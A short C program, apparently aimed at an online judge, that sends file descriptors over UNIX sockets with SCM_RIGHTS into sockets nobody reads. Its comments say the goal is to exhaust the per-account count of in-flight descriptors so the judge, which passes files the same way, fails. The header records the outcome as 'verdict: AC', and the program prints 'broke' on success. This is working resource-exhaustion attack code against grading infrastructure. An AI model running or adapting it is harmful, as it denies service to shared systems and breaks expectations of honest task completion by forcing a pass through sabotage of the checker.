// verdict: AC
// why: the kernel counts descriptors in flight through sockets by account; a run leaves enough for the judge, which passes files that way
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

// pass sends a descriptor 250 times into a socket that no process reads.
static int pass(int socket) {
	char b = 0, space[CMSG_SPACE(250 * sizeof(int))];
	struct iovec one = {&b, 1};
	struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(250 * sizeof(int));
	for (int i = 0; i < 250; i++) ((int *)CMSG_DATA(c))[i] = 0;
	return sendmsg(socket, &m, MSG_DONTWAIT);
}

// An account may have as many in flight as one of its processes may have open, which is often half a million.
// So two runs leave enough even if nothing stops them.
int main(void) {
	for (int passed = 0; passed < 5000;) {
		int pair[2];
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return puts("held"), 0;
		int before = passed;
		while (passed < 5000 && pass(pair[0]) > 0) passed += 250;
		if (passed == before) return puts("held"), 0;
	}
	puts("broke: 5000 descriptors on their way");
	return 0;
}
